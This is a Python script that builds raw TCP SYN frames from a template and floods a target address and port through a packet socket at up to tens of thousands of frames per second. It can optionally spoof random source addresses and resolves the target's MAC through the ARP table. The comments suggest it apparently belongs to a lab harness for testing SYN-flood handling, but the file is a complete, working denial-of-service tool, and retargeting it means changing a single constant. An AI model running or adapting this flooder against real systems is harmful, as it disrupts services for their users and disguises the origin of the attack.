"""Sends a flood of TCP SYNs, run on a host as a script of its own; says at its end what it sent.

    /usr/bin/python3 -I -S flood_sender.py INTERFACE ADDRESS/LENGTH TARGET PORT SYNS SECONDS SPOOFED TAKEN,…

Frames are made from one template: only source, port, sequence number and the two checksums change, so that even
CPython sends some 50,000 a second. They leave by a packet socket: the host's own TCP knows nothing of them.
Rule: no more than SYNS frames, evenly over SECONDS; a full queue is waited for, never counted as sent.
"""

from __future__ import annotations

import contextlib
import errno
import json
import random
import socket
import struct
import sys
import time

SLICE_S = 0.002
ARP_S = 2.0
ETHERTYPE = 0x0800
MSS = b"\x02\x04\x05\xb4"
# Set apart for benchmarks (RFC 2544), so no host's. Addresses of the hosts' own subnet would be asked for by ARP, and
# all hosts of a lab share one kernel's table of neighbours (1,024): it would be full, and nobody found anybody.
NOBODYS = "198.18.0.0/15"


def ones(data: bytes) -> int:
    """Sum of 16-bit words, not folded yet."""
    return sum(struct.unpack(f"!{len(data) // 2}H", data))


def folded(total: int) -> int:
    """The Internet checksum of a sum of words (RFC 1071)."""
    total = (total & 0xFFFF) + (total >> 16)
    total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


class Frames:
    """SYNs to one address and port."""

    def __init__(self, ours: bytes, theirs: bytes, target: str, port: int) -> None:
        self._ethernet = theirs + ours + struct.pack("!H", ETHERTYPE)
        self._target = socket.inet_aton(target)
        self._ip_sum = ones(struct.pack("!BBHHHBBH", 0x45, 0, 44, 0, 0x4000, 64, 6, 0) + self._target)
        self._tcp_tail = struct.pack("!IBBH", 0, 6 << 4, 0x02, 64_240)  # no acknowledgement, 24 bytes, SYN, window
        self._port = port
        self._tcp_sum = ones(self._target + struct.pack("!HHH", 6, 24, port) + self._tcp_tail + MSS)

    def syn(self, source: int, port: int, sequence: int) -> bytes:
        address = (source >> 16) + (source & 0xFFFF)
        numbers = port + (sequence >> 16) + (sequence & 0xFFFF)
        return b"".join(
            (
                self._ethernet,
                struct.pack("!BBHHHBBH", 0x45, 0, 44, 0, 0x4000, 64, 6, folded(self._ip_sum + address)),
                struct.pack("!I", source),
                self._target,
                struct.pack("!HHI", port, self._port, sequence),
                self._tcp_tail,
                struct.pack("!HH", folded(self._tcp_sum + address + numbers), 0),
                MSS,
            )
        )


class Sources:
    """Where the SYNs come from: random addresses of NOBODYS, or one address; always with random ports."""

    def __init__(self, address: str, spoofed: bool, taken: str, seed: int = 1) -> None:
        ip, _, length = (NOBODYS if spoofed else address).partition("/")
        own, self._random = number(ip), random.Random(seed)
        bits = 32 - int(length)
        self._first = own >> bits << bits if spoofed else own
        self._last = self._first + (1 << bits) - 1 if spoofed else own
        self._taken = {number(one) for one in taken.split(",") if one} | {self._first, self._last} if spoofed else set()

    def next(self) -> tuple[int, int, int]:
        """Address, port, sequence number."""
        source = self._random.randint(self._first, self._last)
        while source in self._taken:
            source = self._random.randint(self._first, self._last)
        return source, self._random.randint(1024, 65_535), self._random.getrandbits(32)


def number(ip: str) -> int:
    return int.from_bytes(socket.inet_aton(ip), "big")


def neighbour(target: str, port: int) -> bytes:
    """The MAC address of `target`: the kernel is made to ask for it."""
    deadline = time.monotonic() + ARP_S
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
        probe.setblocking(False)
        while time.monotonic() < deadline:
            with contextlib.suppress(OSError):  # nobody has answered yet
                probe.sendto(b"", (target, port))
            with open("/proc/self/net/arp") as table:
                for line in table.read().splitlines()[1:]:
                    words = line.split()
                    if words[0] == target and words[2] != "0x0":
                        return bytes.fromhex(words[3].replace(":", ""))
            time.sleep(0.01)
    raise SystemExit(f"nobody answers ARP for {target}, so a frame has nowhere to go")


def accepted(out: socket.socket, frame: bytes) -> bool:
    """Whether the interface had room for it."""
    try:
        out.send(frame)
    except OSError as error:
        if error.errno != errno.ENOBUFS:
            raise
        return False
    return True


def send(out: socket.socket, frames: Frames, sources: Sources, syns: int, seconds: float) -> int:
    """Blocks until all are sent, at an even pace; one that the interface has no room for is sent a little later."""
    begun, sent = time.monotonic(), 0
    while sent < syns:
        due = min(syns, int(syns * (time.monotonic() - begun) / seconds) + 1)
        while sent < due:
            frame = frames.syn(*sources.next())
            while not accepted(out, frame):
                time.sleep(SLICE_S)
            sent += 1
        time.sleep(SLICE_S)
    return sent


def main(
    interface: str, address: str, target: str, port: str, syns: str, seconds: str, spoofed: str, taken: str
) -> None:
    theirs = neighbour(target, int(port))
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0) as out:
        out.bind((interface, 0))
        frames = Frames(out.getsockname()[4], theirs, target, int(port))
        begun = time.monotonic()
        sent = send(out, frames, Sources(address, spoofed == "1", taken), int(syns), float(seconds))
    print(json.dumps({"sent": sent, "seconds": round(time.monotonic() - begun, 3)}))


if __name__ == "__main__":
    main(*sys.argv[1:])
